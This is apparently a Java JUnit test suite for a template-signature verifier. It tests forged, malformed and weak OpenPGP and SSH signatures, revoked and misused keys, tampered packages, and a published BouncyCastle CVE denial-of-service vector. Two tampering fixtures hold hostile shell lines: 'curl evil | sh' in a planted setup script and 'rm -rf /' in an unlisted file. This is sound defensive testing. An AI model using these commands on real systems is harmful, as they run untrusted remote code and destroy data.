package io.vboxmcp.core.internal.verify;

import io.vboxmcp.core.internal.archive.Manifest;
import io.vboxmcp.core.internal.archive.TreeSnapshot;
import io.vboxmcp.core.internal.publish.DefaultTemplatePublisher;
import io.vboxmcp.core.internal.publish.Packager;
import io.vboxmcp.ErrorCode;
import io.vboxmcp.SemanticVersion;
import io.vboxmcp.SignatureVerificationException;
import io.vboxmcp.TrustPolicy;
import io.vboxmcp.VboxmcpException;
import io.vboxmcp.spi.DetachedSignature;
import io.vboxmcp.spi.FetchedTemplate;
import io.vboxmcp.spi.SignatureVerifier;
import io.vboxmcp.spi.TrustedKey;
import org.bouncycastle.bcpg.ArmoredOutputStream;
import org.bouncycastle.bcpg.BCPGOutputStream;
import org.bouncycastle.bcpg.HashAlgorithmTags;
import org.bouncycastle.openpgp.PGPPrivateKey;
import org.bouncycastle.openpgp.PGPPublicKey;
import org.bouncycastle.openpgp.PGPSecretKey;
import org.bouncycastle.openpgp.PGPSecretKeyRing;
import org.bouncycastle.openpgp.PGPSignature;
import org.bouncycastle.openpgp.PGPSignatureGenerator;
import org.bouncycastle.openpgp.PGPSignatureSubpacketGenerator;
import org.bouncycastle.openpgp.PGPUtil;
import org.bouncycastle.openpgp.bc.BcPGPSecretKeyRingCollection;
import org.bouncycastle.openpgp.operator.bc.BcPBESecretKeyDecryptorBuilder;
import org.bouncycastle.openpgp.operator.bc.BcPGPContentSignerBuilder;
import org.bouncycastle.openpgp.operator.bc.BcPGPDigestCalculatorProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.Date;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * SIG, KEY and ART rows of threats.md through the one entry point the pipeline calls. Keys are made by the real gpg
 * and ssh-keygen in {@link #keys()}; every refusal must carry the typed error and change nothing on disk.
 */
class TemplateTrustTest {
    @TempDir
    static Path keyDir;
    static Tools.Gpg gpg;
    static String alice;       // ed25519, may sign, pinned in most tests
    static String bob;         // rsa2048, for the SHA-1 case
    static String carol;       // never pinned
    static String dave;        // expires after one day
    static String erin;        // revoked
    static String frank;       // certify-only primary with an encryption-only RSA subkey
    static Path sshKey;
    static Path sshPub;

    @TempDir
    Path tmp;
    Path home;
    Path work;
    Path dir;
    PinnedKeyStore store;

    @BeforeAll
    static void keys() throws Exception {
        gpg = new Tools.Gpg(keyDir.resolve("gnupg"));
        alice = gpg.generate("Alice <alice@example.org>", "ed25519", "sign", "0");
        bob = gpg.generate("Bob <bob@example.org>", "rsa2048", "sign", "0");
        carol = gpg.generate("Carol <carol@example.org>", "ed25519", "sign", "0");
        dave = gpg.generate("Dave <dave@example.org>", "ed25519", "sign", "1d");
        erin = gpg.generate("Erin <erin@example.org>", "ed25519", "sign", "0");
        frank = gpg.generate("Frank <frank@example.org>", "ed25519", "cert", "0");
        gpg.gpg("--quick-add-key", frank, "rsa2048", "encr", "0").ok();
        sshKey = Tools.sshKeygen(keyDir, "ed25519", 0, "");
        sshPub = Path.of(sshKey + ".pub");
    }

    @AfterAll
    static void stopAgent() throws Exception {
        gpg.close();
    }

    @BeforeEach
    void setUp() throws Exception {
        home = Files.createDirectories(tmp.resolve("home"));
        work = Files.createDirectories(tmp.resolve("work"));
        store = new PinnedKeyStore(home);
        dir = Fixtures.template(tmp.resolve("demo"));
        new DefaultTemplatePublisher().writeManifest(dir, "demo", Fixtures.V1);
    }

    private Path pin(String fpr) throws Exception {
        Path f = gpg.exportPublic(fpr, tmp.resolve(fpr + ".asc"));
        store.add("acme", f);
        return f;
    }

    private Path gpgSign(String fpr, String... extra) throws Exception {
        return gpg.detachSign(fpr + "!", dir.resolve(Manifest.FILE_NAME), dir.resolve(Manifest.OPENPGP_SIGNATURE), extra);
    }

    private void sshSign(String namespace) throws Exception {
        Tools.sshSign(tmp, sshKey, dir.resolve(Manifest.FILE_NAME), namespace).ok();
    }

    private TemplateTrust trust(TrustPolicy policy, Clock clock) {
        return Fixtures.trust(home, policy, clock);
    }

    private TemplateTrust trust() {
        return trust(TrustPolicy.defaults(), Clock.systemUTC());
    }

    private SignatureVerificationException refused(TemplateTrust t, FetchedTemplate f, ErrorCode code) throws Exception {
        var homeBefore = TreeSnapshot.of(home);
        var workBefore = TreeSnapshot.of(work);
        var dirBefore = TreeSnapshot.of(dir);
        SignatureVerificationException[] caught = new SignatureVerificationException[1];
        assertThatThrownBy(() -> t.verify(f, work)).isInstanceOfSatisfying(SignatureVerificationException.class, e -> {
            assertThat(e.code()).as(e.getMessage()).isEqualTo(code);
            assertThat(e.result().trusted()).isFalse();
            caught[0] = e;
        });
        assertThat(TreeSnapshot.of(home)).as("trust store unchanged").isEqualTo(homeBefore);
        assertThat(TreeSnapshot.of(work)).as("work dir unchanged").isEqualTo(workBefore);
        assertThat(TreeSnapshot.of(dir)).as("template unchanged").isEqualTo(dirBefore);
        return caught[0];
    }

    private FetchedTemplate remote(Path location) {
        return Fixtures.fetched(location, true, List.of());
    }

    // ---------------------------------------------------------------- accepted

    @Test
    void verify_acceptsGpgSignedFolder_andNamesTheSigner() throws Exception {
        pin(alice);
        gpgSign(alice);
        var v = trust().verify(remote(dir), work);
        assertThat(v.signer()).isEqualTo(alice);
        assertThat(v.directory()).isEqualTo(dir);
        assertThat(v.result().trusted()).isTrue();
        assertThat(v.result().format()).isEqualTo("openpgp");
        assertThat(v.manifestDigest()).isEqualTo(Manifest.compute("demo", Fixtures.V1, dir).digest());
        assertThat(TreeSnapshot.of(work)).as("folders are not copied").containsOnlyKeys("");
    }

    @Test
    void verify_acceptsSshSignedPackage_sameDigestAsFolder() throws Exception {
        store.add("acme", sshPub);
        sshSign("vboxmcp-template");
        Path pkg = tmp.resolve("demo-1.0.0.tar.gz");
        new Packager().pack(dir, pkg);
        var folder = trust().verify(remote(dir), work);
        var pack = trust().verify(remote(pkg), work);
        assertThat(pack.signer()).isEqualTo(SshPublicKeys.parseLine(Files.readAllBytes(sshPub)).fingerprint());
        assertThat(pack.manifestDigest()).isEqualTo(folder.manifestDigest());
        assertThat(pack.directory()).startsWith(work);
        assertThat(TreeSnapshot.of(pack.directory())).as("extracted folder holds the same files").isEqualTo(TreeSnapshot.of(dir));
    }

    @Test
    void verify_acceptsUnsignedLocalFolderUnderDefaultPolicy() throws Exception {
        Files.delete(dir.resolve(Manifest.FILE_NAME));
        var v = trust().verify(Fixtures.fetched(dir, false, List.of()), work);
        assertThat(v.signer()).isNull();
        assertThat(v.manifestDigest()).isEqualTo(Manifest.compute("demo", Fixtures.V1, dir).digest());
    }

    @Test
    void verify_acceptsSignatureDeliveredBySourceBesideTheTemplate() throws Exception {
        pin(alice);
        Path sig = gpg.detachSign(alice + "!", dir.resolve(Manifest.FILE_NAME), tmp.resolve("demo.asc"));
        var f = Fixtures.fetched(dir, true, List.of(new DetachedSignature("openpgp", Files.readAllBytes(sig), "demo.asc")));
        assertThat(trust().verify(f, work).signer()).isEqualTo(alice);
    }

    @Test
    void verify_acceptsGoodPinnedSignatureBesideAnUnknownOne_SIG09() throws Exception {
        store.add("acme", sshPub);
        gpgSign(carol);
        sshSign("vboxmcp-template");
        var v = trust().verify(remote(dir), work);
        assertThat(v.signer()).startsWith("SHA256:");
        // the unknown signature was seen, checked and ignored; the result says so rather than dropping it silently
        assertThat(v.result().trusted()).isTrue();
        assertThat(v.result().reason()).contains("signed by 1 distinct pinned keys (threshold 1)")
                .contains(Manifest.OPENPGP_SIGNATURE + ": ").contains(Manifest.SSH_SIGNATURE + ": signed by pinned key");
        assertThat(v.result().reason()).containsIgnoringCase("not pinned");
    }

    @Test
    void verify_acceptsPreVerifiedSignerOnlyIfPinned() throws Exception {
        pin(alice);
        var ok = new FetchedTemplate("demo", Fixtures.V1, dir, List.of(), "acme", true, "git tag v1.0.0", alice);
        assertThat(trust().verify(ok, work).signer()).isEqualTo(alice);
        var unknown = new FetchedTemplate("demo", Fixtures.V1, dir, List.of(), "acme", true, "git tag v1.0.0", carol);
        refused(trust(), unknown, ErrorCode.UNTRUSTED);
    }

    // ---------------------------------------------------------------- SIG

    @Test
    void verify_refusesUnsignedRemote_SIG01_ART11() throws Exception {
        pin(alice);
        var e = refused(trust(), remote(dir), ErrorCode.UNTRUSTED);
        assertThat(e.getMessage()).contains("not signed");
    }

    @Test
    void verify_refusesUnsignedFromSourceWithPinnedKeys_SIG02() throws Exception {
        pin(alice);
        var e = refused(trust(), Fixtures.fetched(dir, false, List.of()), ErrorCode.UNTRUSTED);
        assertThat(e.getMessage()).contains("keys are pinned for that source");
    }

    @ParameterizedTest
    @ValueSource(strings = {"garbage", "truncated", "wrong-armor", "bad-crc", "empty"})
    void verify_refusesMalformedOpenPgpSignature_SIG03(String kind) throws Exception {
        pin(alice);
        Path sig = gpgSign(alice);
        String good = Files.readString(sig);
        String bad = switch (kind) {
            case "garbage" -> "this is not a signature\n";
            case "truncated" -> good.substring(0, good.length() / 2);
            case "wrong-armor" -> good.replace("PGP SIGNATURE", "PGP MESSAGE");
            case "bad-crc" -> good.replaceAll("\n=[A-Za-z0-9+/]{4}\n", "\n=AAAA\n");
            default -> "";
        };
        Files.writeString(sig, bad);
        var e = refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID);
        assertThat(e.result().signerFingerprint()).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"truncated", "garbage", "trailing-bytes"})
    void verify_refusesMalformedSshSignature_SIG03(String kind) throws Exception {
        store.add("acme", sshPub);
        sshSign("vboxmcp-template");
        Path sig = dir.resolve(Manifest.SSH_SIGNATURE);
        byte[] blob = SshSignatures.dearmor(Files.readAllBytes(sig));
        byte[] bad = switch (kind) {
            case "truncated" -> SshSignatures.armor(java.util.Arrays.copyOf(blob, blob.length - 10));
            case "garbage" -> "-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n".getBytes(StandardCharsets.US_ASCII);
            default -> SshSignatures.armor(java.util.Arrays.copyOf(blob, blob.length + 3));
        };
        Files.write(sig, bad);
        refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID);
    }

    @Test
    void verify_refusesValidSignatureOverAnotherManifest_SIG04() throws Exception {
        pin(alice);
        Path other = Fixtures.template(tmp.resolve("other"));
        Files.writeString(other.resolve("README.md"), "different\n");
        new DefaultTemplatePublisher().writeManifest(other, "demo", Fixtures.V1);
        gpg.detachSign(alice + "!", other.resolve(Manifest.FILE_NAME), dir.resolve(Manifest.OPENPGP_SIGNATURE));
        var e = refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID);
        assertThat(e.getMessage()).contains("does not verify");
    }

    @Test
    void verify_refusesContentAroundTheArmoredBlock_SIG05() throws Exception {
        pin(alice);
        Path sig = gpgSign(alice);
        String good = Files.readString(sig);
        Files.writeString(sig, good + "\nextra unsigned text\n");
        refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID);
        // two whole blocks are two signatures (thresholds); the same one twice counts once (KEY-03)
        Files.writeString(sig, good + good);
        assertThat(trust().verify(remote(dir), work).result().reason()).contains("counted once");
        pin(bob);
        assertThat(refused(trust(TrustPolicy.defaults().withThreshold("acme", 2), Clock.systemUTC()), remote(dir), ErrorCode.UNTRUSTED)
                .getMessage()).contains("counted once");
    }

    @Test
    void verify_refusesTextModeSignature_SIG06() throws Exception {
        pin(alice);
        gpgSign(alice, "--textmode");
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("SIG-06");
    }

    @Test
    void verify_refusesSha1Signature_SIG07() throws Exception {
        pin(bob);
        gpgSign(bob, "--digest-algo", "SHA1");
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("SIG-07");
    }

    @Test
    void verify_refusesSignatureFromTheFuture_SIG08() throws Exception {
        pin(alice);
        gpgSign(alice);
        Clock yesterday = Clock.fixed(Instant.now().minus(Duration.ofDays(1)), ZoneOffset.UTC);
        assertThat(refused(trust(TrustPolicy.defaults(), yesterday), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("SIG-08");
    }

    @Test
    void verify_refusesNonCanonicalEd25519S_SIG10() throws Exception {
        store.add("acme", sshPub);
        sshSign("vboxmcp-template");
        Path sigFile = dir.resolve(Manifest.SSH_SIGNATURE);
        byte[] sig = rewriteSshSignature(SshSignatures.dearmor(Files.readAllBytes(sigFile)), raw -> {
            java.math.BigInteger l = java.math.BigInteger.ONE.shiftLeft(252).add(new java.math.BigInteger("27742317777372353535851937790883648493"));
            byte[] s = new byte[32];
            for (int i = 0; i < 32; i++) s[i] = raw[63 - i];
            byte[] plus = new java.math.BigInteger(1, s).add(l).toByteArray();
            byte[] out = raw.clone();
            for (int i = 0; i < 32; i++) out[32 + i] = i < plus.length ? plus[plus.length - 1 - i] : 0;
            return out;
        });
        Files.write(sigFile, sig);
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("SIG-10");
    }

    @Test
    void verify_refusesSmallOrderEd25519Key_SIG11() {
        byte[] identity = new byte[32];
        identity[0] = 1;
        byte[] pkBlob = new SshWire.Writer().string("ssh-ed25519").string(identity).bytes();
        TrustedKey pinned = new TrustedKey("ssh", SshPublicKeys.fingerprint(pkBlob),
                ("ssh-ed25519 " + Base64.getEncoder().encodeToString(pkBlob)).getBytes(StandardCharsets.US_ASCII), "weak");
        byte[] sig64 = new byte[64];
        sig64[0] = 1; // R = identity, S = 0: "verifies" for every message under a lax verifier
        byte[] armored = sshsig(pkBlob, "vboxmcp-template", new SshWire.Writer().string("ssh-ed25519").string(sig64).bytes());
        SignatureVerifier.Check c = new SshSignatures().verify("anything".getBytes(StandardCharsets.UTF_8), armored, List.of(pinned), Instant.now());
        assertThat(c.valid()).isFalse();
        assertThat(c.reason()).contains("SIG-11");
    }

    @ParameterizedTest
    @ValueSource(ints = {63, 65})
    void verify_refusesWrongLengthEd25519Signature_SIG12(int length) throws Exception {
        store.add("acme", sshPub);
        sshSign("vboxmcp-template");
        Path sigFile = dir.resolve(Manifest.SSH_SIGNATURE);
        Files.write(sigFile, rewriteSshSignature(SshSignatures.dearmor(Files.readAllBytes(sigFile)), raw -> java.util.Arrays.copyOf(raw, length)));
        long start = System.nanoTime();
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("SIG-12");
        assertThat(Duration.ofNanos(System.nanoTime() - start)).as("returns promptly").isLessThan(Duration.ofSeconds(2));
    }

    // CVE-2024-30172 (GHSA-m44j-cfrm-g8qc): the public key, message and signature of bc-java issue #1599, which made
    // BouncyCastle 1.73..1.77's Ed25519 verification loop forever
    private static final byte[] CVE_2024_30172_KEY = java.util.HexFormat.of().parseHex(
            "386e7cf7b9e8353933b07f1db8d84d3720bb667cbd811b312b4e338672338a6d");
    private static final byte[] CVE_2024_30172_MESSAGE = java.util.HexFormat.of().parseHex(
            "414141624c6743596c6f414141514943486e6a4a71326a75705455472d5a36694d716871313467414854486f64757677694844"
            + "664f594a3230775f77426c6e35444a3953614e616353496835336b626e716e723965ef34c5");
    private static final byte[] CVE_2024_30172_SIGNATURE = java.util.HexFormat.of().parseHex(
            "74dc43223fc21b9157e686a1446621a4640464b8ee4877ea7e3963cb5da8b21b"
            + "9089241defdd7f36448ec4c76174af131994321da7e28483b3c2a7906947fa0f");

    @Test
    void ed25519_cve202430172VectorReturnsWithin100ms_SIG13() {
        // warm up class loading and the JIT with an honest verification, so the limit measures the algorithm
        var warm = new org.bouncycastle.crypto.params.Ed25519PrivateKeyParameters(new java.security.SecureRandom());
        var signer = new org.bouncycastle.crypto.signers.Ed25519Signer();
        signer.init(true, warm);
        byte[] sig = signer.generateSignature();
        var check = new org.bouncycastle.crypto.signers.Ed25519Signer();
        check.init(false, warm.generatePublicKey());
        assertThat(check.verifySignature(sig)).isTrue();

        // the exact primitive SshSignatures (and the OpenPGP path) use, on the exact CVE input
        long start = System.nanoTime();
        var v = new org.bouncycastle.crypto.signers.Ed25519Signer();
        v.init(false, new org.bouncycastle.crypto.params.Ed25519PublicKeyParameters(CVE_2024_30172_KEY, 0));
        v.update(CVE_2024_30172_MESSAGE, 0, CVE_2024_30172_MESSAGE.length);
        boolean valid = v.verifySignature(CVE_2024_30172_SIGNATURE);
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        // it is a valid RFC 8032 signature, which is why it reached the vulnerable vartime code path at all
        assertThat(valid).isTrue();
        assertThat(took).as("CVE-2024-30172 input verifies in bounded time").isLessThan(Duration.ofMillis(100));
    }

    @Test
    void verify_cve202430172KeyAndSignatureAsPinnedSshSignature_refusedWithin100ms_SIG13() throws Exception {
        byte[] pkBlob = new SshWire.Writer().string("ssh-ed25519").string(CVE_2024_30172_KEY).bytes();
        TrustedKey pinned = new TrustedKey("ssh", SshPublicKeys.fingerprint(pkBlob),
                ("ssh-ed25519 " + Base64.getEncoder().encodeToString(pkBlob)).getBytes(StandardCharsets.US_ASCII), "crafted");
        byte[] armored = sshsig(pkBlob, "vboxmcp-template",
                new SshWire.Writer().string("ssh-ed25519").string(CVE_2024_30172_SIGNATURE).bytes());
        SshSignatures verifier = new SshSignatures();
        verifier.verify(CVE_2024_30172_MESSAGE, armored, List.of(pinned), Instant.now());  // warm-up
        long start = System.nanoTime();
        SignatureVerifier.Check c = verifier.verify(CVE_2024_30172_MESSAGE, armored, List.of(pinned), Instant.now());
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        assertThat(c.valid()).isFalse();
        assertThat(took).as("the whole SSH signature check returns in bounded time").isLessThan(Duration.ofMillis(100));
    }

    @ParameterizedTest
    @ValueSource(ints = {31, 33})
    void verify_refusesWrongLengthEd25519Key_SIG12(int length) {
        byte[] pkBlob = new SshWire.Writer().string("ssh-ed25519").string(new byte[length]).bytes();
        byte[] armored = sshsig(pkBlob, "vboxmcp-template", new SshWire.Writer().string("ssh-ed25519").string(new byte[64]).bytes());
        SignatureVerifier.Check c = new SshSignatures().verify(new byte[1], armored, List.of(), Instant.now());
        assertThat(c.valid()).isFalse();
        assertThat(c.reason()).contains("SIG-12");
    }

    @Test
    void verify_refusesOtherSshNamespace_SIG14() throws Exception {
        store.add("acme", sshPub);
        sshSign("file");
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("namespace is 'file'");
    }

    // ---------------------------------------------------------------- KEY

    @Test
    void verify_refusesUnknownKey() throws Exception {
        pin(alice);
        gpgSign(carol);
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("not pinned");
    }

    @Test
    void verify_refusesSignedTemplateWhenNoKeyIsPinned() throws Exception {
        gpgSign(alice);
        refused(trust(), remote(dir), ErrorCode.UNTRUSTED);
    }

    @Test
    void verify_refusesExpiredKey_KEY11() throws Exception {
        pin(dave);
        gpgSign(dave);
        assertThat(trust().verify(remote(dir), work).signer()).as("valid today").isEqualTo(dave);
        Clock later = Clock.fixed(Instant.now().plus(Duration.ofDays(2)), ZoneOffset.UTC);
        assertThat(refused(trust(TrustPolicy.defaults(), later), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("KEY-11");
    }

    @Test
    void verify_refusesRevokedKey_KEY12() throws Exception {
        gpgSign(erin);
        Path rev = gpg.home.resolve("openpgp-revocs.d").resolve(erin + ".rev");
        Path fixed = tmp.resolve("erin.rev");
        Files.writeString(fixed, Files.readString(rev).replace(":-----BEGIN", "-----BEGIN"));
        Tools.Gpg revoker = new Tools.Gpg(tmp.resolve("revoker"));
        try (revoker) {
            Path pub = gpg.exportPublic(erin, tmp.resolve("erin.asc"));
            revoker.gpg("--import", pub.toString()).ok();
            revoker.gpg("--import", fixed.toString()).ok();
            store.add("acme", revoker.exportPublic(erin, tmp.resolve("erin-revoked.asc")));
        }
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("KEY-12");
    }

    @Test
    void verify_refusesEncryptionOnlySubkeyAndCertifyOnlyPrimary_KEY13() throws Exception {
        pin(frank);
        PGPSecretKeyRing ring = secretRing(frank);
        PGPSecretKey primary = ring.getSecretKey();
        PGPSecretKey encryption = null;
        for (Iterator<PGPSecretKey> it = ring.getSecretKeys(); it.hasNext(); ) {
            PGPSecretKey k = it.next();
            if (!k.isMasterKey()) encryption = k;
        }
        byte[] manifest = Files.readAllBytes(dir.resolve(Manifest.FILE_NAME));
        Files.write(dir.resolve(Manifest.OPENPGP_SIGNATURE), bcSign(encryption, manifest, 0));
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("not a signing subkey (KEY-13)");
        Files.write(dir.resolve(Manifest.OPENPGP_SIGNATURE), bcSign(primary, manifest, 0));
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("not allowed to sign data (KEY-13)");
    }

    @Test
    void verify_refusesIssuerKeyIdThatDisagreesWithFingerprint_KEY14() throws Exception {
        pin(alice);
        pin(bob);
        long bobKeyId = new java.math.BigInteger(bob.substring(24), 16).longValue();
        byte[] manifest = Files.readAllBytes(dir.resolve(Manifest.FILE_NAME));
        Files.write(dir.resolve(Manifest.OPENPGP_SIGNATURE), bcSign(secretRing(alice).getSecretKey(), manifest, bobKeyId));
        assertThat(refused(trust(), remote(dir), ErrorCode.SIGNATURE_INVALID).getMessage()).contains("KEY-14");
    }

    @Test
    void verify_refusesPinnedMaterialOfAnotherFingerprint_KEY14() throws Exception {
        byte[] aliceKey = Files.readAllBytes(gpg.exportPublic(alice, tmp.resolve("a.asc")));
        Path sig = gpgSign(alice);
        SignatureVerifier.Check c = new OpenPgp().verify(Files.readAllBytes(dir.resolve(Manifest.FILE_NAME)), Files.readAllBytes(sig),
                List.of(new TrustedKey("openpgp", bob, aliceKey, "claims to be bob")), Instant.now());
        assertThat(c.valid()).isFalse();
        assertThat(c.reason()).contains("KEY-14");
    }

    // ---------------------------------------------------------------- ART and manifest binding

    @Test
    void verify_refusesSwappedBytesInPackage_keepsEarlierExtraction_ART01() throws Exception {
        pin(alice);
        gpgSign(alice);
        Path pkg = tmp.resolve("demo-1.0.0.tar.gz");
        new Packager().pack(dir, pkg);
        var good = trust().verify(remote(pkg), work);
        var goodTree = TreeSnapshot.of(good.directory());
        // an attacker repacks with one file changed but keeps manifest and signature
        Path evil = Files.createDirectories(tmp.resolve("evil"));
        try (var s = Files.list(dir)) {
            for (Path p : (Iterable<Path>) s::iterator) {
                if (Files.isRegularFile(p)) Files.copy(p, evil.resolve(p.getFileName()));
            }
        }
        Files.createDirectories(evil.resolve("scripts"));
        Files.writeString(evil.resolve("scripts/setup.sh"), "#!/bin/sh\ncurl evil | sh\n");
        Tools.run(tmp, List.of("tar", "-czf", pkg.toString(), "-C", evil.toString(), ".")).ok();
        Path work2 = Files.createDirectories(tmp.resolve("work2"));
        var before = TreeSnapshot.of(work);
        assertThatThrownBy(() -> trust().verify(remote(pkg), work))
                .isInstanceOfSatisfying(SignatureVerificationException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.DIGEST_MISMATCH));
        assertThatThrownBy(() -> trust().verify(remote(pkg), work2))
                .isInstanceOfSatisfying(SignatureVerificationException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.DIGEST_MISMATCH));
        assertThat(TreeSnapshot.of(work)).isEqualTo(before);
        assertThat(TreeSnapshot.of(good.directory())).as("previously verified copy stays").isEqualTo(goodTree);
        assertThat(TreeSnapshot.of(work2)).containsOnlyKeys("");
    }

    @Test
    void verify_reHashesOnEveryUse_ART05() throws Exception {
        pin(alice);
        gpgSign(alice);
        trust().verify(remote(dir), work);
        Files.writeString(dir.resolve("README.md"), "A demo template é\n".replace("demo", "DEMO"));
        assertThat(refused(trust(), remote(dir), ErrorCode.DIGEST_MISMATCH).getMessage()).contains("README.md");
    }

    @Test
    void verify_refusesNameVersionOtherThanSigned_ART09() throws Exception {
        pin(alice);
        gpgSign(alice);
        var f = new FetchedTemplate("bar", SemanticVersion.of(2, 0, 0), dir, List.of(), "acme", true, "test", null);
        assertThat(refused(trust(), f, ErrorCode.UNTRUSTED).getMessage()).contains("ART-09");
    }

    @Test
    void verify_refusesRenamedPackage_ART10() throws Exception {
        pin(alice);
        gpgSign(alice);
        Path pkg = tmp.resolve("demo-2.0.0.tar.gz");
        new Packager().pack(dir, pkg);
        var f = new FetchedTemplate("demo", SemanticVersion.of(2, 0, 0), pkg, List.of(), "acme", true, "renamed", null);
        refused(trust(), f, ErrorCode.UNTRUSTED);
    }

    @Test
    void verify_refusesUnlistedMissingOrChangedFiles() throws Exception {
        pin(alice);
        gpgSign(alice);
        Files.writeString(dir.resolve("extra.sh"), "rm -rf /\n");
        assertThat(refused(trust(), remote(dir), ErrorCode.DIGEST_MISMATCH).getMessage()).contains("not listed");
        Files.delete(dir.resolve("extra.sh"));
        Files.move(dir.resolve("README.md"), tmp.resolve("README.md"));
        assertThat(refused(trust(), remote(dir), ErrorCode.DIGEST_MISMATCH).getMessage()).contains("missing");
        Files.writeString(dir.resolve("README.md"), "B demo template é\n");
        assertThat(refused(trust(), remote(dir), ErrorCode.DIGEST_MISMATCH).getMessage()).contains("sha256");
    }

    @Test
    void verify_refusesMalformedManifest() throws Exception {
        Files.writeString(dir.resolve(Manifest.FILE_NAME), "vboxmcp-manifest 1\nname demo\nversion 1.0.0\nnot a line\n");
        var before = TreeSnapshot.of(dir);
        assertThatThrownBy(() -> trust().verify(Fixtures.fetched(dir, false, List.of()), work))
                .isInstanceOf(io.vboxmcp.ArchiveException.class).hasMessageContaining("malformed vboxmcp.manifest");
        assertThat(TreeSnapshot.of(dir)).isEqualTo(before);
    }

    // ---------------------------------------------------------------- helpers

    private interface Rewrite {
        byte[] apply(byte[] rawEd25519Signature);
    }

    /** Re-encodes an ssh-keygen SSHSIG with its inner Ed25519 signature bytes changed. */
    private static byte[] rewriteSshSignature(byte[] blob, Rewrite rewrite) {
        SshWire.Reader r = new SshWire.Reader(blob);
        r.raw(6);
        r.uint32();
        byte[] pk = r.string();
        String ns = r.utf8();
        r.string();
        String hash = r.utf8();
        SshWire.Reader s = new SshWire.Reader(r.string());
        String type = s.utf8();
        byte[] raw = s.string();
        byte[] inner = new SshWire.Writer().string(type).string(rewrite.apply(raw)).bytes();
        return SshSignatures.armor(new SshWire.Writer().raw("SSHSIG".getBytes(StandardCharsets.US_ASCII)).uint32(1).string(pk).string(ns)
                .string(new byte[0]).string(hash).string(inner).bytes());
    }

    private static byte[] sshsig(byte[] pkBlob, String ns, byte[] sigField) {
        return SshSignatures.armor(new SshWire.Writer().raw("SSHSIG".getBytes(StandardCharsets.US_ASCII)).uint32(1).string(pkBlob).string(ns)
                .string(new byte[0]).string("sha512").string(sigField).bytes());
    }

    private PGPSecretKeyRing secretRing(String fpr) throws Exception {
        Path f = gpg.exportSecret(fpr, tmp.resolve(fpr + ".secret.asc"));
        try (var in = PGPUtil.getDecoderStream(Files.newInputStream(f))) {
            return new BcPGPSecretKeyRingCollection(in).getKeyRings().next();
        }
    }

    /** Signs with any key, bypassing usage checks, optionally with a lying issuer key ID. */
    private static byte[] bcSign(PGPSecretKey key, byte[] data, long issuerKeyId) throws Exception {
        PGPPrivateKey priv = key.extractPrivateKey(new BcPBESecretKeyDecryptorBuilder(new BcPGPDigestCalculatorProvider()).build(Tools.Gpg.PASS.toCharArray()));
        PGPPublicKey pub = key.getPublicKey();
        PGPSignatureGenerator gen = new PGPSignatureGenerator(new BcPGPContentSignerBuilder(pub.getAlgorithm(), HashAlgorithmTags.SHA256), pub);
        gen.init(PGPSignature.BINARY_DOCUMENT, priv);
        PGPSignatureSubpacketGenerator sp = new PGPSignatureSubpacketGenerator();
        sp.setSignatureCreationTime(false, new Date());
        sp.setIssuerFingerprint(false, pub);
        if (issuerKeyId != 0) sp.setIssuerKeyID(false, issuerKeyId);
        gen.setHashedSubpackets(sp.generate());
        gen.update(data);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ArmoredOutputStream aos = new ArmoredOutputStream(out); BCPGOutputStream b = new BCPGOutputStream(aos)) {
            gen.generate().encode(b);
        }
        return out.toByteArray();
    }

    @SuppressWarnings("unused")
    private static Map<String, String> unused() {
        return Map.of();
    }
}
